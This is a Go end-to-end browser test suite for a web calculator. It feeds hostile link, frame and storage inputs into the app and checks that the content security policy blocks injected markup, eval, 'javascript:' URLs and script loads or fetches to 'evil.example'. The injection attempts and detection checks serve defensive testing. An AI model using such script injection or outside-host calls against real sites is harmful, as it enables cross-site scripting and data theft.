//go:build e2e

package e2e

import (
	"encoding/json"
	"os"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// stranger is a text that nobody of ours wrote: see app/static, whose tests draw
// the same natively.
type stranger struct {
	Name, Kind, Before, Text string
	Times                    int
}

func (s stranger) whole() string { return s.Before + strings.Repeat(s.Text, max(s.Times, 1)) }

func strangers(t *testing.T, kind string) []stranger {
	t.Helper()
	data, err := os.ReadFile("../static/testdata/hostile.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	var list []stranger
	for line := range strings.Lines(string(data)) {
		var s stranger
		if err := json.Unmarshal([]byte(line), &s); err != nil {
			t.Fatal(err)
		}
		if s.Kind == kind {
			list = append(list, s)
		}
	}
	if len(list) < 3 {
		t.Fatalf("only %d texts of kind %s", len(list), kind)
	}
	return list
}

// canary sings in every page that is opened from now on, if a script that was
// smuggled in calls it; what would ask the reader counts as well.
func (r *reader) canary() *reader {
	r.t.Helper()
	return r.before(`window.sang = []; window.canary = () => sang.push("canary"); window.alert = window.confirm = window.prompt = () => sang.push("alert");`)
}

// unharmed fails where a text has done what a text must not do. What a page may
// hold beyond the calculator's own elements is nothing.
func (r *reader) unharmed(name string) {
	r.t.Helper()
	for _, harm := range eval[[]string](r, `(() => {
		const harm = [...(window.sang || [])];
		for (const e of document.querySelectorAll("#page script, #page iframe, #page object, #page embed, #page base, #page form, #page style, #page link, #page meta, #page img")) harm.push("an element: " + e.outerHTML.slice(0, 100));
		for (const e of document.querySelectorAll("*")) for (const a of e.attributes) {
			if (/^on/i.test(a.name) || a.name === "srcdoc") harm.push("an attribute: " + a.name);
			if (/^(href|src|action|formaction|xlink:href)$/i.test(a.name) && e.tagName !== "IMG" && !/^https?:$/.test(new URL(a.value, location.href).protocol)) harm.push("an address: " + a.value.slice(0, 80));
		}
		for (const key in {}) harm.push("every object has " + key);
		if (({}).polluted !== undefined || Object.polluted !== undefined) harm.push("objects are polluted");
		const wide = document.documentElement.scrollWidth - innerWidth;
		if (wide > 0) harm.push(wide + " px too wide: " + `+widest+`);
		return harm;
	})()`) {
		r.t.Errorf("%s: %s", name, harm)
	}
	for _, said := range r.heard() {
		r.t.Errorf("%s: the page said: %.300s", name, said)
	}
	r.mu.Lock()
	r.said = nil
	r.mu.Unlock()
}

// Links of strangers, opened in a page that runs: an answer stands, nothing runs,
// nothing sticks out of a small phone.
func TestLinksOfStrangers(t *testing.T) {
	r := visit(t, small, "/host/").canary()
	r.do(chromedp.Navigate(host.url + "/a/b/"))
	r.started()
	for _, s := range strangers(t, "link") {
		was := eval[string](r, `location.hash = "#v1&scale=21", location.hash`)
		r.until("the question before", `document.querySelector($1).value.startsWith("21")`, scale)
		eval[bool](r, `(location.hash = $1, true)`, "#"+s.whole())
		r.until(s.Name+" to be taken", `!document.querySelector($1).value.startsWith("21")`, scale)
		eval[bool](r, `new Promise(done => requestAnimationFrame(() => setTimeout(() => done(true))))`)
		if eval[string](r, `document.querySelector("[data-result=accelerators]").innerText`) == "" {
			t.Errorf("%s: no answer stands (before: %s)", s.Name, was)
		}
		r.unharmed(s.Name)
	}
}

// The same where a page starts with them: those that are long, and one with
// markup in every field.
func TestPagesThatStartWithAStrangersLink(t *testing.T) {
	r := visit(t, small, "/host/").canary()
	for _, s := range strangers(t, "link") {
		if s.Times < 100000 && s.Name != "markup 2 in every field" {
			continue
		}
		r.do(chromedp.Navigate("about:blank"), chromedp.Navigate(host.url+"/a/b/#"+s.whole()))
		r.started().showing(`{}`)
		r.unharmed(s.Name)
	}
}

// Addresses of frames, before the program and without it: each text in every
// parameter that an editor, or a stranger, may write.
func TestFramesOfStrangers(t *testing.T) {
	r := visit(t, small, "/host/").canary()
	for i, s := range strangers(t, "embed") {
		for _, without := range []bool{true, false} {
			if !without && s.Times < 2 && i%8 != 0 {
				continue // starting takes a second or two
			}
			program := ""
			if without {
				program = "&wasm=false"
			}
			r.do(chromedp.Navigate("about:blank"), chromedp.Navigate(host.url+"/a/b/embed/llama4-announced.html#"+s.whole()+program))
			if !without {
				r.started()
			}
			r.until("the frame", `document.querySelector(".sentence")`)
			r.unharmed(s.Name)
		}
	}
}

// What the device keeps may have been written by another page of the same origin.
func TestPinsOfStrangers(t *testing.T) {
	for _, s := range strangers(t, "pins") {
		ctx, leave := chromedp.NewContext(tabs, chromedp.WithNewBrowserContext())
		r := &reader{t: t, ctx: ctx, home: host.url}
		r.goTo(small, host.url+"/host/")
		r.canary()
		eval[bool](r, `(localStorage.setItem("tenfold.pins", $1), localStorage.setItem("tenfold.manner", $1), localStorage.setItem("tenfold.sw", $1), true)`, s.whole())
		r.do(chromedp.Navigate(host.url + "/a/b/"))
		r.started().showing(`{}`)
		r.unharmed(s.Name)
		leave()
	}
}

// The page's policy holds in a browser: no text becomes markup or code, no script
// of others is taken, nothing is sent elsewhere. go-app, the charts and the page's
// own scripts do without all of that, as every other test shows.
func TestThePolicyHolds(t *testing.T) {
	for _, path := range []string{"/a/b/", "/a/b/embed.html", "/a/b/backtest.html"} {
		r := visit(t, desk, path)
		if path != "/a/b/backtest.html" {
			r.started()
		}
		for what, attempt := range map[string]string{
			"text as markup":         `document.body.innerHTML = "<img src=x>"`,
			"text behind markup":     `document.body.insertAdjacentHTML("beforeend", "<p>x</p>")`,
			"a document of text":     `new DOMParser().parseFromString("<p>x</p>", "text/html")`,
			"code of text":           `eval("1")`,
			"a function of text":     `new Function("return 1")()`,
			"an address as a script": `document.createElement("script").src = "web/engine.js"`,
			"another policy":         `trustedTypes.createPolicy("another", {})`,
			"another's script":       `tenfoldScript("https://evil.example/x.js")`,
			"an address of code":     `tenfoldScript("javascript:canary()")`,
		} {
			// Not by the debugger's own evaluation, which no policy binds.
			if got := eval[string](r, `new Promise(done => setTimeout(() => { try { `+attempt+`; done("done") } catch (e) { done(e.name) } }))`); got == "done" {
				t.Errorf("%s: the policy lets through: %s", path, what)
			}
		}
		if got := eval[string](r, `fetch("https://evil.example/").then(() => "sent", e => e.name)`); got != "TypeError" {
			t.Errorf("%s: a request to another host: %s", path, got)
		}
		if got := eval[string](r, `new Promise(done => { document.addEventListener("securitypolicyviolation", e => done(e.effectiveDirective), { once: true }); const s = document.createElement("script"); s.append("window.ran = true"); document.head.append(s); setTimeout(() => done(window.ran ? "ran" : "passed over"), 1000) })`); got == "ran" {
			t.Errorf("%s: an inline script is taken", path)
		}
	}
}
